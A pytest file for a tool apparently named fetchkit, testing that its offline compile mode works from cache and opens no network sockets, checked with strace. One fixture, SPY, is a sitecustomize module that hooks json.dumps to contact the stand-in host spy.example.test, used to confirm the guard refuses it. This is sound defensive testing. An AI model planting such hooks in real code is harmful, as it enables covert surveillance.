"""``compile --offline``: a cache alone is enough, and no socket is opened.

Looked at from outside as well, by strace: what Python code asks for is not all that
an interpreter does.
"""

from __future__ import annotations

import re
import shutil
from typing import TYPE_CHECKING

import pytest

from fetchkit.errors import OfflineError
from tests.flow.scene import BINARY, publish
from tests.flow.trees import GONE, listing
from tests.origins.misbehaving import answer

if TYPE_CHECKING:
    from pathlib import Path

    from tests.flow.program import Ended
    from tests.flow.scene import Scene
    from tests.origins.misbehaving import Origin

_CALLS = "trace=socket,connect,bind,sendto,sendmsg,sendmmsg"
_NETWORK = re.compile(r"AF_INET|AF_NETLINK|AF_PACKET")


@pytest.fixture
def filled(scene: Scene, origin: Origin) -> Scene:
    """A scene whose cache holds everything; the key, too, was fetched."""
    url = origin.on("/tool-1.2.3", answer(BINARY))
    origin.on("/tool-1.2.3.asc", answer(scene.keys.sign(BINARY)))
    key_url = origin.on("/key.asc", answer(scene.keys.good.public))
    scene.manifest |= {
        "schema": 1,
        "keys": {
            "good": {"fingerprints": [scene.keys.good.fingerprint], "url": key_url}
        },
        "artifacts": {
            "tool": {
                "version": "1.2.3",
                "url": url.replace("1.2.3", "{version}"),
                "signature": "{url}.asc",
                "signed_by": ["good"],
                "install": {"dir": "vendor", "links": ["tool"]},
            }
        },
    }
    ended = scene.compile()
    assert ended.code == 0, ended.said
    return scene


def traced(scene: Scene, *options: str) -> tuple[Ended, list[str]]:
    """A run of ``compile``, and every call about sockets it and its children made."""
    strace = shutil.which("strace")
    assert strace is not None, "these tests need strace: apt-get install strace"
    record = scene.home / "strace"
    scene.write_manifest()
    program = scene.running().behind(
        strace, "-f", "-qq", "-e", _CALLS, "-o", str(record)
    )
    ended = program.run(*scene.arguments(*options))
    return ended, record.read_text().splitlines()


def fresh_app(scene: Scene) -> None:
    shutil.rmtree(scene.app_dir)
    scene.app_dir.mkdir()


def forget_verdicts(scene: Scene) -> None:
    """Let the signature be checked again, by a child."""
    for path in (scene.store_dir / "verdicts").iterdir():
        path.unlink()


def test_a_cache_alone_is_enough_and_no_socket_is_opened(filled: Scene) -> None:
    before = filled.installed()
    fresh_app(filled)
    forget_verdicts(filled)
    ended, calls = traced(filled, "--offline")
    assert ended.code == 0, ended.said
    assert filled.installed() == before
    assert [call for call in calls if _NETWORK.search(call)] == []


def test_the_trace_would_show_a_socket(filled: Scene) -> None:
    shutil.rmtree(filled.cache_dir)
    fresh_app(filled)
    ended, calls = traced(filled)
    assert ended.code == 0, ended.said
    assert any(_NETWORK.search(call) for call in calls)


def test_a_cache_directory_that_was_carried_here_is_enough(
    filled: Scene, tmp_path: Path
) -> None:
    before = filled.installed()
    carried = tmp_path / "carried"
    shutil.copytree(filled.cache_dir / "fetchkit", carried)
    shutil.rmtree(filled.cache_dir)
    fresh_app(filled)
    ended = filled.compile("--offline", "--cache-dir", str(carried))
    assert ended.code == 0, ended.said
    assert filled.installed() == before


def test_what_is_not_there_is_refused_without_asking_anybody(filled: Scene) -> None:
    """Not even a resolver (O11)."""
    shutil.rmtree(filled.cache_dir)
    fresh_app(filled)
    filled.artifact()["url"] = "https://not-there.example.test/tool-{version}"
    ended, calls = traced(filled, "--offline")
    assert ended.code == OfflineError.exit_code
    assert "offline, and `tool-1.2.3" in ended.stderr
    assert [call for call in calls if _NETWORK.search(call)] == []
    assert listing(filled.app_dir / "vendor") == GONE


@pytest.mark.parametrize("place", ["environment", "app"])
def test_a_variable_makes_a_build_offline(
    scene: Scene, origin: Origin, place: str
) -> None:
    publish_unreachable(scene)
    if place == "app":
        (scene.env_dir / "FETCHKIT_OFFLINE").write_text("1\n")
    else:
        scene.program = scene.program.with_variables(FETCHKIT_OFFLINE="1")
    ended, calls = traced(scene)
    assert ended.code == OfflineError.exit_code
    assert [call for call in calls if _NETWORK.search(call)] == []


def test_code_that_is_loaded_with_us_is_refused_and_named(filled: Scene) -> None:
    """As a module somebody puts on PYTHONPATH would be."""
    library = filled.home / "library"
    library.mkdir()
    (library / "sitecustomize.py").write_text(SPY)
    fresh_app(filled)
    program = filled.program
    filled.program = program.with_variables(
        PYTHONPATH=f"{library}:{program.environ()['PYTHONPATH']}"
    )
    ended = filled.compile("--offline")
    assert ended.code == OfflineError.exit_code, ended.said
    assert "offline, and sitecustomize (line 7) wants to look up" in ended.stderr
    assert "Traceback" not in ended.said


SPY = '''\
import json
import urllib.request


def dumps(*args, **keywords):
    """Tell somebody about everything that is written down."""
    urllib.request.urlopen("https://spy.example.test", timeout=5)
    return original(*args, **keywords)


original, json.dumps = json.dumps, dumps
'''


def publish_unreachable(scene: Scene) -> None:
    class Nowhere:
        def add(self, path: str, data: bytes) -> str:
            return self.url(path)

        def url(self, path: str) -> str:
            return f"https://not-there.example.test/{path}"

    publish(scene, Nowhere())
